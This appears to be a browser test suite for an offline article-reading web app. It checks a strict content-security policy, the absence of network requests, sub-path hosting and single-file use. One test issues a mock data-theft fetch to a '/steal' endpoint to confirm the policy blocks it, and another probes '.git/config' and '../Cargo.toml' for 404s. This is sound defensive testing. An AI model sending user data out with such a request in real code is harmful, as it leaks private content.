// What the page asks of its host and of the browser, and what it does when either refuses.
import assert from "node:assert/strict";
import { test } from "node:test";
import { ARTICLE, ROOT, SITE, URL_BASE, picture, useBrowser, withPage } from "./support.mjs";
import { article, paste, settled, toast } from "./dom.mjs";
import { serve } from "./host.mjs";

useBrowser();

const FILES = {
  "": "text/html; charset=utf-8",
  "app.js": "text/javascript; charset=utf-8",
  "app_bg.wasm": "application/wasm",
  "giaoban.css": "text/css; charset=utf-8",
  "giaoban-page.js": "text/javascript; charset=utf-8",
  "giaoban-worker.js": "text/javascript; charset=utf-8",
  "giaoban-host.js": "text/javascript; charset=utf-8",
  "giaoban-offline.js": "text/javascript; charset=utf-8",
  "giaoban.webmanifest": "application/manifest+json",
  "icon-192.png": "image/png",
  "icon.svg": "image/svg+xml",
};

test("served: every file with its type and a policy that allows nothing foreign", async () => {
  for (const [file, type] of Object.entries(FILES)) {
    const response = await fetch(URL_BASE + file);
    assert.equal(response.status, 200, file);
    assert.equal(response.headers.get("content-type"), type, file);
    assert.equal(response.headers.get("x-content-type-options"), "nosniff");
    const policy = response.headers.get("content-security-policy");
    assert.match(policy, /^default-src 'none';/);
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*|data:/);
  }
  for (const file of ["../Cargo.toml", ".git/config", "nothing.js"]) {
    assert.equal((await fetch(URL_BASE + file)).status, 404, file);
  }
});

test("served: the page carries the same policy for hosts that send none", async () => {
  const response = await fetch(URL_BASE);
  const page = await response.text();
  assert.ok(page.includes(`content="${response.headers.get("content-security-policy")}"`));
  assert.doesNotMatch(page, /<script>|<style|style=|data-trunk|https?:/);
});

test("nothing leaves the page: not when it opens, not when an article is read", () =>
  withPage({ name: "offline" }, async (page, { requests }) => {
    await settled(page);
    const before = requests.length;
    await paste(page, ARTICLE);
    await settled(page);
    assert.deepEqual(requests.slice(before), [], "reading an article makes no request at all");
  }));

test("below any address, on a plain file server without policy, and under the same policy in headers", async () => {
  const policy = (await fetch(URL_BASE)).headers.get("content-security-policy");
  for (const [prefix, sent] of [["/kho/tin/", null], ["/", policy]]) {
    const host = await serve({ [prefix]: SITE }, { policy: sent });
    await withPage({ name: "below", url: host.url.slice(0, -1) + prefix }, async (page, { requests }) => {
      await paste(page, ARTICLE);
      await settled(page);
      assert.ok(await article(page).locator("mark").count() > 20);
      assert.ok(requests.every((request) => request.startsWith(host.url.slice(0, -1) + prefix)), "only relative addresses");
    });
    await host.close();
  }
});

test("the badge counts requests since the start: none, and one when a script of somebody else makes one", () =>
  withPage({ name: "badge", expects: /content security policy|Failed to load|CSP|fetch/i }, async (page) => {
    await paste(page, ARTICLE);
    await settled(page);
    const badge = page.locator("[data-role=requests]");
    assert.equal(await badge.textContent(), "0");
    await page.locator("[data-role=network] summary").click();
    assert.match(await page.locator("[data-role=network] .facts").textContent(), /0 yêu cầu mạng.*default-src 'none'/s);
    await picture(page, "network-badge");
    // The policy refuses it; that it was tried is told.
    await page.evaluate(() => fetch("http://127.0.0.2:9/steal?text=x").catch(() => {}));
    await page.waitForFunction(() => document.querySelector("[data-role=requests]").textContent === "1");
  }));

test("the program is there before anything else is asked: a shell is painted while it loads", () =>
  withPage({
    name: "shell",
    prepare: (page) => page.route("**/app_bg.wasm", async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 700));
      await route.continue();
    }),
  }, async (page) => {
    assert.equal(await page.locator(".shell .brand").textContent(), "giaoban");
    await picture(page, "shell");
    await page.getByRole("textbox").first().waitFor();
    assert.equal(await page.locator(".shell").count(), 0);
  }));

test("as one file, opened by double-click: it reads in a worker and asks for nothing", () =>
  withPage({ name: "file", url: new URL("dist/giaoban.html", ROOT).href }, async (page, { requests }) => {
    await paste(page, ARTICLE);
    await settled(page);
    assert.ok(await article(page).locator("mark").count() > 20);
    assert.equal(page.workers().length, 1);
    assert.equal(await toast(page).count(), 0, "no word of a missing worker");
    assert.equal(await page.locator("[data-role=requests]").textContent(), "0");
    await page.locator("[data-role=network] summary").click();
    assert.match(await page.locator("[data-role=offline]").textContent(), /tệp trên máy.*\.giaoban\.json/s);
    await page.keyboard.press("Tab");
    assert.deepEqual(requests.filter((r) => !/^(data|blob):/.test(r)), [page.url().replace(/#.*/, "")]);
    await picture(page, "read-as-file");
  }));
